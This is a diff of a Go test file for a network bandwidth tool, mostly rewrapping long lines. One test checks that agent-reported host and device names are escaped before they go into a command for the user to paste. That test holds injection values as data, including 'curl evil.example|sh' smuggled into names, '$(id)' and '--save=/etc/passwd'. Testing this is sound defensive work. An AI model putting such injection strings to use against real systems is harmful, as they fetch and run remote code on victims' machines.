@@ -21,24 +21,28 @@ import (
 	"github.com/gobw/gobw/report/stats"
 )
 
-// TestSilentConnectionsHoldNobody: connections that say nothing, however many, neither keep a run from starting nor from ending.
+// TestSilentConnectionsHoldNobody: connections that say nothing, however many, neither
+// keep a run from starting nor from ending.
 func TestSilentConnectionsHoldNobody(t *testing.T) {
 	for _, many := range []int{1, 3000} {
 		t.Run(fmt.Sprint(many), func(t *testing.T) {
-			o, err := run{ranks: 4, late: map[int]time.Duration{0: time.Second, 1: time.Second, 2: time.Second, 3: time.Second}, during: func(n *network) {
-				for range many {
-					if _, err := n.dial(context.Background(), 200); err != nil {
-						t.Error(err)
+			o, err := run{
+				ranks: 4, late: map[int]time.Duration{0: time.Second, 1: time.Second, 2: time.Second, 3: time.Second},
+				during: func(n *network) {
+					for range many {
+						if _, err := n.dial(context.Background(), 200); err != nil {
+							t.Error(err)
+						}
 					}
-				}
-				time.Sleep(3 * time.Second)
-				for range many { // at the end of the run, too
-					if conn, err := n.dial(context.Background(), 200); err == nil {
-						defer func() { _ = conn.Close() }()
+					time.Sleep(3 * time.Second)
+					for range many { // at the end of the run, too
+						if conn, err := n.dial(context.Background(), 200); err == nil {
+							defer func() { _ = conn.Close() }()
+						}
 					}
-				}
-				time.Sleep(time.Minute)
-			}}.run(t)
+					time.Sleep(time.Minute)
+				},
+			}.run(t)
 			if err != nil || o.Fabric.Took() != 4 || len(findings(o.Fabric)) > 0 {
 				t.Errorf("%v: %v", err, o.Checks)
 			}
@@ -49,7 +53,8 @@ func TestSilentConnectionsHoldNobody(t *testing.T) {
 	}
 }
 
-// TestAnotherRunsRankZero: what a rank 0 says that has not proven itself is no answer: two runs on a host look at each other's ports.
+// TestAnotherRunsRankZero: what a rank 0 says that has not proven itself is no answer: two runs
+// on a host look at each other's ports.
 func TestAnotherRunsRankZero(t *testing.T) {
 	o, err := run{ranks: 3, late: map[int]time.Duration{1: time.Second}, agent: func(rank int, c *agent.Config) bool {
 		if rank == 1 {
@@ -60,7 +65,9 @@ func TestAnotherRunsRankZero(t *testing.T) {
 					return dial(ctx, place)
 				}
 				up, down := newStream(), newStream()
-				theirs, ours := &memoryConn{in: up, out: down, local: netAddr(1), remote: netAddr(2)}, &memoryConn{in: down, out: up, local: netAddr(2), remote: netAddr(1)}
+				theirs, ours := &memoryConn{in: up, out: down, local: netAddr(1), remote: netAddr(2)}, &memoryConn{
+					in: down, out: up, local: netAddr(2), remote: netAddr(1),
+				}
 				s := frame.New(theirs, frame.Options{Bears: time.Second, Token: fabric.Key("another job", "secret")})
 				go func() {
 					_, err := s.Meet(ctx, frame.Hello{}, time.Second)
@@ -80,7 +87,8 @@ func netAddr(n byte) net.Addr {
 	return net.TCPAddrFromAddrPort(netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 0, 1, n}), 1))
 }
 
-// TestImpossibleFigures: what an agent reports is held against it and not against the others, and makes no number that is none.
+// TestImpossibleFigures: what an agent reports is held against it and not against the
+// others, and makes no number that is none.
 func TestImpossibleFigures(t *testing.T) {
 	for name, bits := range map[string]float64{"too large for a float32": 1e39, "negative": -1, "none": math.MaxFloat64} {
 		t.Run(name, func(t *testing.T) {
@@ -94,7 +102,8 @@ func TestImpossibleFigures(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if h := o.host(3); h.Cause != matrix.Lost || !strings.Contains(h.Reason, "impossible figures") || len(findings(o.Fabric)) > 0 {
+			if h := o.host(3); h.Cause != matrix.Lost || !strings.Contains(h.Reason, "impossible figures") ||
+				len(findings(o.Fabric)) > 0 {
 				t.Errorf("%+v, findings %q", h, findings(o.Fabric))
 			}
 			if _, err := json.Marshal(o.Document); err != nil {
@@ -121,7 +130,8 @@ func TestLongAnswers(t *testing.T) {
 	}
 }
 
-// TestARunEnds: an agent that gives each answer at the last moment does not stretch a run beyond twice its time and a minute.
+// TestARunEnds: an agent that gives each answer at the last moment does not stretch a
+// run beyond twice its time and a minute.
 func TestARunEnds(t *testing.T) {
 	o, err := run{ranks: 32, cfg: func(c *Config) { long(c); c.Time = 40 * time.Second }, worker: func(rank int) *fake {
 		f := &fake{rank: rank}
@@ -130,7 +140,8 @@ func TestARunEnds(t *testing.T) {
 		}
 		return f
 	}}.run(t)
-	if err == nil || !strings.Contains(err.Error(), "no time left after round") || o.Complete || o.Fabric.Judged.Tested == 0 {
+	if err == nil || !strings.Contains(err.Error(), "no time left after round") || o.Complete ||
+		o.Fabric.Judged.Tested == 0 {
 		t.Errorf("%v: %v", err, o.Checks)
 	}
 	if took := o.Finished.Sub(o.Started); took > 4*time.Minute {
@@ -157,14 +168,19 @@ func TestHelloIsBounded(t *testing.T) {
 // TestCommandsToPaste: names that agents tell of their hosts and devices do not come into a command as they are.
 func TestCommandsToPaste(t *testing.T) {
 	for name, tt := range map[string]struct{ host, device, want string }{
-		"good":      {"node3", "roce0@eth1", "Type at node0:\n  gobw serve\nthen at node3:\n  gobw write node0 -s 65536 -D 5 -d roce0@eth1"},
+		"good": {
+			"node3", "roce0@eth1",
+			"Type at node0:\n  gobw serve\nthen at node3:\n  gobw write node0 -s 65536 -D 5 -d roce0@eth1",
+		},
 		"a device":  {"node3", "x;curl evil.example|sh;#", "-d 'x;curl evil.example|sh;#'"},
 		"quotes":    {"node3", "x'$(id)'", `-d 'x'\''$(id)'\'''`},
 		"a host":    {"x;curl evil.example|sh", "roce0", ""},
 		"an option": {"--save=/etc/passwd", "roce0", ""},
 	} {
 		t.Run(name, func(t *testing.T) {
-			c := &coordinator{cfg: Config{Plan: plan.Spec{Operation: plan.Write, Sizes: []int{65536}}}, members: make([]*host, 2)}
+			c := &coordinator{
+				cfg: Config{Plan: plan.Spec{Operation: plan.Write, Sizes: []int{65536}}}, members: make([]*host, 2),
+			}
 			m := &matrix.Matrix{Rails: []string{tt.device}, Hosts: []matrix.Host{{Name: tt.host}, {Name: "node0"}}}
 			f := matrix.Finding{Subject: matrix.WholeOf, Verdict: stats.Failure(matrix.Slow, "", "")}
 			m.Findings = []matrix.Finding{f}
@@ -182,7 +198,9 @@ func FuzzFigures(f *testing.F) {
 		Bits, Low, Middle, High float64
 		Corrupt                 bool
 	}
-	for _, seed := range []figures{{1e9, 1, 2, 3, false}, {1e39, 1, 2, 3, false}, {math.Inf(1), math.NaN(), -1, 1e300, true}} {
+	for _, seed := range []figures{
+		{1e9, 1, 2, 3, false}, {1e39, 1, 2, 3, false}, {math.Inf(1), math.NaN(), -1, 1e300, true},
+	} {
 		b, err := binary.Append(nil, binary.BigEndian, seed)
 		if err != nil {
 			f.Fatal(err)
@@ -202,7 +220,10 @@ func FuzzFigures(f *testing.F) {
 				return &fabric.Answer{Rails: []fabric.Rail{{Flows: []fabric.Flow{f}}}}
 			}
 			good := said(fabric.Flow{Bits: 1e9, Quantiles: [5]float64{1, 1, 1, 1, 1}})
-			bad := said(fabric.Flow{Bits: v.Bits, Quantiles: [5]float64{v.Low, v.Low, v.Middle, v.High, v.High}, Corrupt: v.Corrupt, Error: string(in[n:])})
+			bad := said(fabric.Flow{
+				Bits: v.Bits, Quantiles: [5]float64{v.Low, v.Low, v.Middle, v.High, v.High}, Corrupt: v.Corrupt,
+				Error: string(in[n:]),
+			})
 			one, other := newHost(0), newHost(1)
 			one.answer, one.failedIn, other.answer, other.failedIn = bad, -1, good, -1
 			ends := flowEnds{initiator: end{one, 0}, target: end{other, 0}}
